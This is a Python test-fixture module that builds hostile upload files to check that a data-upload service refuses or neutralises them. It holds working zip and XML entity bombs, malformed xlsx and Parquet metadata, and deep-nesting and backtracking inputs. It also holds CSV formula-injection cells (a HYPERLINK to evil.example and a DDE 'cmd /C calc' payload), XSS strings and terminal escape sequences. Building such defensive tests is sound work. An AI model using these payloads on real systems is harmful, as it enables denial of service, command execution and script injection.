"""Hostile uploads, generated (no committed binaries): shared by the unit, page and bench suites.

Each case is a file a hostile participant could upload. `refused` cases must be refused with a
clear message (the previous dataset kept); `loaded` cases must load with their content made
harmless (names cleaned, formulas neutralised on export); `either` may do either, cleanly.
"""

from __future__ import annotations

import io
import zipfile
from collections.abc import Callable
from dataclasses import dataclass
from functools import cache

import numpy as np
import openpyxl
import pandas as pd
import pyarrow as pa
import pyarrow.parquet as pq


@dataclass(frozen=True)
class Case:
    id: str
    filename: str
    build: Callable[[], bytes]
    expect: str  # "refused", "loaded" or "either"

    @property
    def data(self) -> bytes:
        return _built(self.id)


def _xlsx(fill: Callable[[openpyxl.worksheet.worksheet.Worksheet], None]) -> bytes:
    book = openpyxl.Workbook()
    sheet = book.active
    fill(sheet)
    buffer = io.BytesIO()
    book.save(buffer)
    return buffer.getvalue()


def _far_cell(sheet) -> None:
    sheet["A1"] = "a"
    sheet.cell(row=100_000, column=1_000, value=1)  # 4.9 KB declaring 99,999 x 1,000 cells


def _wide_row(sheet) -> None:
    sheet.cell(row=1, column=3_000, value="last")
    sheet.cell(row=2, column=1, value=1)


def _small_xlsx() -> bytes:
    return _xlsx(lambda s: (s.append(["a", "b"]), s.append([1, 2])))


def _replace_part(data: bytes, part: str, content: bytes) -> bytes:
    source = zipfile.ZipFile(io.BytesIO(data))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for info in source.infolist():
            body = content if info.filename == part else source.read(info.filename)
            target.writestr(info.filename, body)
    return out.getvalue()


def _xlsx_no_dimension_far_cell() -> bytes:
    # The same far cell with the <dimension> element removed: the size must be counted instead.
    data = _xlsx(_far_cell)
    sheet = zipfile.ZipFile(io.BytesIO(data)).read("xl/worksheets/sheet1.xml")
    start = sheet.find(b"<dimension")
    end = sheet.find(b"/>", start) + 2
    return _replace_part(data, "xl/worksheets/sheet1.xml", sheet[:start] + sheet[end:])


def _xlsx_zip_bomb() -> bytes:
    # A real workbook plus one part that inflates to 640 MB of zeros (under 1 MB compressed).
    out = io.BytesIO(_small_xlsx())
    with zipfile.ZipFile(out, "a", zipfile.ZIP_DEFLATED, compresslevel=1) as archive:
        chunk = bytes(16 * 1024 * 1024)
        with archive.open("xl/media/bomb.bin", "w", force_zip64=True) as member:
            for _ in range(40):
                member.write(chunk)
    return out.getvalue()


def _xlsx_billion_laughs() -> bytes:
    entities = ['<!ENTITY lol "lol">']
    entities += [
        f'<!ENTITY lol{i} "{("&lol" + (str(i - 1) if i > 1 else "") + ";") * 10}">'
        for i in range(1, 10)
    ]
    strings = (
        '<?xml version="1.0"?><!DOCTYPE sst [' + "".join(entities) + "]>"
        '<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" count="1" '
        'uniqueCount="1"><si><t>&lol9;</t></si></sst>'
    ).encode()
    data = _xlsx(lambda s: (s.append(["name", "b"]), s.append(["x", 2])))
    return _replace_part(data, "xl/sharedStrings.xml", strings)


def _xlsx_truncated() -> bytes:
    data = _small_xlsx()
    return data[: len(data) // 2]


def _parquet(table: pa.Table) -> bytes:
    buffer = io.BytesIO()
    pq.write_table(table, buffer, compression="zstd")
    return buffer.getvalue()


def _parquet_many_cells() -> bytes:
    # A few hundred KB of Parquet declaring 60,000,000 cells (run-length encoded).
    zeros = pa.array(np.zeros(6_000_000, dtype=np.int8))
    return _parquet(pa.table({f"c{i}": zeros for i in range(10)}))


def _parquet_truncated() -> bytes:
    data = _parquet(pa.table({"a": list(range(1000)), "b": ["x"] * 1000}))
    return data[: len(data) // 2]


def _csv(frame: pd.DataFrame) -> bytes:
    return frame.to_csv(index=False).encode()


def _wide_csv(columns: int) -> bytes:
    return (
        ",".join(f"c{i}" for i in range(columns)) + "\n" + "1," * (columns - 1) + "1\n"
    ).encode()


def _png() -> bytes:
    return b"\x89PNG\r\n\x1a\n" + bytes(range(256)) * 20


def _nul_csv() -> bytes:
    return b"a,b\n1,\x00\x00\x00\n2,3\n" + b"\x00" * 4096


def _mixed_encodings() -> bytes:
    return (
        b"name,city\n"
        + "Zoë,Köln\n".encode()
        + "José,Málaga\n".encode("latin-1")
        + ("王,北京\n".encode("gbk"))
    )


def _formula_cells() -> bytes:
    return (
        b"name,note,value\n"
        b'a,"=HYPERLINK(""https://evil.example/?""&A1,""click"")",1\n'
        b"b,+cmd|' /C calc'!A0,2\n"
        b"c,-2+3,3\n"
        b"d,@SUM(1+1),4\n"
    )


def _html_names() -> bytes:
    names = [
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        "[click](https://x.y)",
        "![x](https://tracker.example/p.png)",
        "y",
    ]
    rows = "\n".join(",".join(str(i + j) for j in range(len(names))) for i in range(20))
    return (",".join(f'"{n}"' for n in names) + "\n" + rows + "\n").encode()


def _big_cell() -> bytes:
    return b"id,text\n1," + b"x" * (10 * 1024 * 1024) + b"\n2,short\n"


def _deep_json() -> bytes:
    return b"[" * 50_000 + b"]" * 50_000


# --- round two: budgets on bytes and work -------------------------------------------------------

_SHEET_NS = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
_REL_NS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_PKG_REL = "http://schemas.openxmlformats.org/package/2006/relationships"


def _raw_xlsx(
    sheet_data: bytes, *, dimension: bytes = b"", shared: bytes = b"", styles: bytes = b""
) -> bytes:
    """A minimal workbook written part by part, so a test controls every byte of its XML."""
    overrides = [
        ("/xl/workbook.xml", "sheet.main+xml"),
        ("/xl/worksheets/sheet1.xml", "worksheet+xml"),
    ]
    rels = [("rId1", "worksheet", "worksheets/sheet1.xml")]
    parts = {
        "xl/worksheets/sheet1.xml": b'<worksheet xmlns="'
        + _SHEET_NS.encode()
        + b'">'
        + dimension
        + b"<sheetData>"
        + sheet_data
        + b"</sheetData></worksheet>",
    }
    if shared:
        overrides.append(("/xl/sharedStrings.xml", "sharedStrings+xml"))
        rels.append(("rId2", "sharedStrings", "sharedStrings.xml"))
        parts["xl/sharedStrings.xml"] = (
            b'<sst xmlns="' + _SHEET_NS.encode() + b'">' + shared + b"</sst>"
        )
    if styles:
        overrides.append(("/xl/styles.xml", "styles+xml"))
        rels.append(("rId3", "styles", "styles.xml"))
        parts["xl/styles.xml"] = (
            b'<styleSheet xmlns="'
            + _SHEET_NS.encode()
            + b'"><cellXfs>'
            + styles
            + b"</cellXfs></styleSheet>"
        )
    kind = "application/vnd.openxmlformats-officedocument.spreadsheetml."
    content_types = (
        '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
        '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.'
        'relationships+xml"/><Default Extension="xml" ContentType="application/xml"/>'
        + "".join(f'<Override PartName="{n}" ContentType="{kind}{t}"/>' for n, t in overrides)
        + "</Types>"
    )
    workbook = (
        f'<workbook xmlns="{_SHEET_NS}" xmlns:r="{_REL_NS}"><sheets>'
        '<sheet name="Sheet1" sheetId="1" r:id="rId1"/></sheets></workbook>'
    )
    workbook_rels = (
        f'<Relationships xmlns="{_PKG_REL}">'
        + "".join(
            f'<Relationship Id="{i}" Type="{_REL_NS}/{t}" Target="{target}"/>'
            for i, t, target in rels
        )
        + "</Relationships>"
    )
    root_rels = (
        f'<Relationships xmlns="{_PKG_REL}"><Relationship Id="rId1" '
        f'Type="{_REL_NS}/officeDocument" Target="xl/workbook.xml"/></Relationships>'
    )
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", content_types)
        archive.writestr("_rels/.rels", root_rels)
        archive.writestr("xl/workbook.xml", workbook)
        archive.writestr("xl/_rels/workbook.xml.rels", workbook_rels)
        for name, body in parts.items():
            archive.writestr(name, body)
    return out.getvalue()


_HEADER_ROW = b'<row r="1"><c r="A1" t="inlineStr"><is><t>a</t></is></c></row>'


def _xlsx_dimension_lie(rows: int = 20_000) -> bytes:
    # Declares A1:B2 and holds `rows` rows reaching column XFD (16,384): padded, 327M cells.
    body = b"".join(
        b'<row r="%d"><c r="A%d"><v>1</v></c><c r="XFD%d"><v>2</v></c></row>' % (r, r, r)
        for r in range(2, rows + 2)
    )
    return _raw_xlsx(_HEADER_ROW + body, dimension=b'<dimension ref="A1:B2"/>')


def _xlsx_two_far_cells() -> bytes:
    # Two cells, no dimension: A1 and XFD1048576 span the whole sheet (17 billion cells).
    body = b'<row r="1"><c r="A1"><v>1</v></c></row>'
    body += b'<row r="1048576"><c r="XFD1048576"><v>2</v></c></row>'
    return _raw_xlsx(body)


def _xlsx_many_styles(count: int = 1_500_000) -> bytes:
    return _raw_xlsx(
        _HEADER_ROW + b'<row r="2"><c r="A2"><v>1</v></c></row>', styles=b"<xf/>" * count
    )


def _xlsx_unused_strings(count: int) -> bytes:
    strings = b"".join(b"<si><t>s%d</t></si>" % i for i in range(count))
    body = b'<row r="1"><c r="A1" t="s"><v>0</v></c></row><row r="2"><c r="A2"><v>1</v></c></row>'
    return _raw_xlsx(body, shared=strings)


def _xlsx_huge_inline_cell(megabytes: int = 64) -> bytes:
    # One inline string cell inflating to `megabytes` MB: a size bomb inside a sheet part.
    text = b"x" * (megabytes * 1024 * 1024)
    row = b'<row r="2"><c r="A2" t="inlineStr"><is><t>' + text + b"</t></is></c></row>"
    return _raw_xlsx(_HEADER_ROW + row)


def _xlsx_size_lie() -> bytes:
    # The sheet part's central-directory entry declares 100 bytes; it inflates to 8 MB.
    rows = b"".join(
        b'<row r="%d"><c r="A%d"><v>1</v></c></row>' % (r, r) for r in range(2, 200_000)
    )
    data = bytearray(_raw_xlsx(_HEADER_ROW + rows))
    name = b"xl/worksheets/sheet1.xml"
    position = data.find(b"PK\x01\x02")
    while position >= 0:
        length = int.from_bytes(data[position + 28 : position + 30], "little")
        if data[position + 46 : position + 46 + length] == name:
            data[position + 24 : position + 28] = (100).to_bytes(4, "little")
        position = data.find(b"PK\x01\x02", position + 4)
    return bytes(data)


def _xlsx_garbage_sheet() -> bytes:
    data = _raw_xlsx(_HEADER_ROW)
    return _replace_part(data, "xl/worksheets/sheet1.xml", b"<worksheet><sheetData><row><c" * 5000)


def _parquet_huge_string(megabytes: int) -> bytes:
    # A run of one letter compresses to almost nothing: 400 MB of text in about 13 KB.
    text = pa.array(["x" * (megabytes * 1024 * 1024)], pa.large_string())
    return _parquet(pa.table({"id": pa.array([1]), "text": text}))


def _parquet_bad_footer() -> bytes:
    data = bytearray(_parquet(pa.table({"a": list(range(100))})))
    data[-8:-4] = (0x7FFFFFF0).to_bytes(4, "little")  # a metadata length past the file's start
    return bytes(data)


def _json_many_keys(keys: int = 30_000) -> bytes:
    # One record per key: pandas sizes the frame by the union, keys x records cells.
    return ("[" + ",".join(f'{{"k{i}": {i}}}' for i in range(keys)) + "]").encode()


def _csv_quoted_newline_header(columns: int = 100_000) -> bytes:
    header = '"first\ncolumn",' + ",".join(f"c{i}" for i in range(1, columns))
    return (header + "\n" + ",".join("1" for _ in range(columns)) + "\n").encode()


def _json_escape_run(size: int = 100_000) -> bytes:
    # An unterminated string of \" pairs: the old depth regex backtracked on it for minutes.
    return b'"' + b'\\"' * (size // 2)


def _csv_unterminated_quote() -> bytes:
    return b'a,b\n"' + b"x,y\n" * 1_000_000


def _jsonl_deep_line() -> bytes:
    return b'{"a": 1}\n' + b'{"b": ' * 100_000 + b"1" + b"}" * 100_000 + b"\n"


def _control_names() -> bytes:
    names = ["\x1b[2Jcleared", "\x1b]0;pwned\x07title", "evil\u202etxt.exe", "bell\x07", "y"]
    rows = "\n".join(",".join(str(i + j) for j in range(len(names))) for i in range(20))
    return (",".join(f'"{n}"' for n in names) + "\n" + rows + "\n").encode()


CASES: tuple[Case, ...] = (
    Case("xlsx_far_cell", "far.xlsx", lambda: _xlsx(_far_cell), "refused"),
    Case("xlsx_far_cell_no_dimension", "nodim.xlsx", _xlsx_no_dimension_far_cell, "refused"),
    Case("xlsx_3000_columns", "wide.xlsx", lambda: _xlsx(_wide_row), "refused"),
    Case("xlsx_zip_bomb", "bomb.xlsx", _xlsx_zip_bomb, "refused"),
    Case("xlsx_billion_laughs", "laughs.xlsx", _xlsx_billion_laughs, "either"),
    Case("xlsx_truncated", "cut.xlsx", _xlsx_truncated, "refused"),
    Case("xlsx_named_csv", "book.csv", _small_xlsx, "refused"),
    Case("parquet_60m_cells", "many.parquet", _parquet_many_cells, "refused"),
    Case("parquet_truncated", "cut.parquet", _parquet_truncated, "refused"),
    Case("parquet_named_xlsx", "table.xlsx", lambda: _parquet(pa.table({"a": [1]})), "refused"),
    Case("csv_named_parquet", "table.parquet", lambda: b"a,b\n1,2\n", "refused"),
    Case("csv_named_xlsx", "table2.xlsx", lambda: b"a,b\n1,2\n", "refused"),
    Case("csv_50000_columns", "wide.csv", lambda: _wide_csv(50_000), "refused"),
    Case("csv_2001_columns", "wide2.csv", lambda: _wide_csv(2_001), "refused"),
    Case("png_named_csv", "image.csv", _png, "refused"),
    Case("nul_bytes_csv", "nul.csv", _nul_csv, "refused"),
    Case("empty_csv", "empty.csv", lambda: b"", "refused"),
    Case("whitespace_csv", "blank.csv", lambda: b" \n\t\n  \n", "refused"),
    Case("header_only_csv", "header.csv", lambda: b"a,b,c\n", "refused"),
    Case("ragged_csv", "ragged.csv", lambda: b"a,b\n1,2,3,4\n5,6\n", "refused"),
    Case(
        "legacy_xls", "old.xls", lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(512), "refused"
    ),
    Case("docx_extension", "notes.docx", lambda: b"hello", "refused"),
    Case("no_extension", "data", lambda: b"a,b\n1,2\n", "refused"),
    Case("json_nested_50000", "deep.json", _deep_json, "refused"),
    Case("json_scalar", "scalar.json", lambda: b"42", "refused"),
    Case("jsonl_broken_line", "rows.jsonl", lambda: b'{"a": 1}\n{"a": \n', "refused"),
    Case("garbage_bytes_csv", "garbage.csv", lambda: bytes(range(256)) * 50, "refused"),
    Case("formula_cells_csv", "formulas.csv", _formula_cells, "loaded"),
    Case("html_js_names_csv", "names.csv", _html_names, "loaded"),
    Case("duplicate_names_csv", "dupes.csv", lambda: b"a,a,a,b\n1,2,3,4\n5,6,7,8\n", "loaded"),
    Case("empty_names_csv", "blanks.csv", lambda: b",,b\n1,2,3\n4,5,6\n", "loaded"),
    Case("mixed_encodings_csv", "mixed.csv", _mixed_encodings, "either"),
    Case("single_10mb_cell_csv", "bigcell.csv", _big_cell, "either"),
    # Round two: the table of inputs that took memory, CPU or showed a traceback.
    Case("parquet_40mb_string", "string.parquet", lambda: _parquet_huge_string(40), "refused"),
    Case("xlsx_dimension_lie", "dimlie.xlsx", _xlsx_dimension_lie, "refused"),
    Case("xlsx_1_5m_styles", "styles.xlsx", _xlsx_many_styles, "refused"),
    Case("xlsx_unused_strings", "strings.xlsx", lambda: _xlsx_unused_strings(300_000), "refused"),
    Case("json_30000_keys", "keys.json", _json_many_keys, "refused"),
    Case("csv_quoted_newline_header", "qheader.csv", _csv_quoted_newline_header, "refused"),
    Case("json_escape_run_upload", "escapes.json", _json_escape_run, "refused"),
    # New ones in each class: size bombs, lies in metadata, slow paths, malformed documents.
    Case("xlsx_64mb_inline_cell", "inline.xlsx", _xlsx_huge_inline_cell, "refused"),
    Case("xlsx_two_far_cells", "corners.xlsx", _xlsx_two_far_cells, "refused"),
    Case("xlsx_size_lie", "sizelie.xlsx", _xlsx_size_lie, "refused"),
    Case("csv_unterminated_quote", "quote.csv", _csv_unterminated_quote, "either"),
    Case("jsonl_deep_line", "deep.jsonl", _jsonl_deep_line, "refused"),
    Case("xlsx_garbage_sheet", "garbage.xlsx", _xlsx_garbage_sheet, "refused"),
    Case("parquet_bad_footer", "footer.parquet", _parquet_bad_footer, "refused"),
    Case("control_names_csv", "controls.csv", _control_names, "loaded"),
)
# Full-size versions of cases the unit tests run smaller; only the bench builds them.
BENCH_CASES: tuple[Case, ...] = (
    Case("parquet_400mb_string", "string.parquet", lambda: _parquet_huge_string(400), "refused"),
    Case(
        "xlsx_5m_unused_strings", "strings.xlsx", lambda: _xlsx_unused_strings(5_000_000), "refused"
    ),
)
BY_ID = {case.id: case for case in (*CASES, *BENCH_CASES)}


@cache
def _built(case_id: str) -> bytes:
    return BY_ID[case_id].build()


def normal_file(size: int, extension: str = ".csv") -> bytes:
    """An ordinary table of about `size` bytes in the format of `extension` (at least a few
    rows): the bench's baseline for a hostile file of that size."""
    if extension not in (".xlsx", ".parquet", ".json", ".jsonl"):
        rows = max(4, size // 20)  # about 23 bytes a row: a little more, then cut to size
        return _csv(_normal_frame(rows))[: max(size, 64)].rsplit(b"\n", 1)[0] + b"\n"
    write = {
        ".xlsx": lambda frame: _frame_xlsx(frame),
        ".parquet": lambda frame: _parquet(pa.Table.from_pandas(frame, preserve_index=False)),
        ".json": lambda frame: frame.to_json(orient="records").encode(),
        ".jsonl": lambda frame: frame.to_json(orient="records", lines=True).encode(),
    }[extension]
    rows = 1_000
    data = write(_normal_frame(rows))
    most = 100_000 if extension == ".xlsx" else 3_000_000  # a bigger workbook takes minutes
    for _ in range(2):  # scale the row count to the size asked for
        rows = int(min(max(4, rows * size / max(len(data), 1)), most))
        data = write(_normal_frame(rows))
    return data


def _normal_frame(rows: int) -> pd.DataFrame:
    return pd.DataFrame(
        {
            "id": np.arange(rows),
            "x": np.round(np.linspace(0, 1, rows), 6),
            "city": np.array(["Paris", "Lyon", "Nice"])[np.arange(rows) % 3],
            "y": np.arange(rows) % 2,
        }
    )


def _frame_xlsx(frame: pd.DataFrame) -> bytes:
    buffer = io.BytesIO()
    frame.to_excel(buffer, index=False, engine="openpyxl")
    return buffer.getvalue()
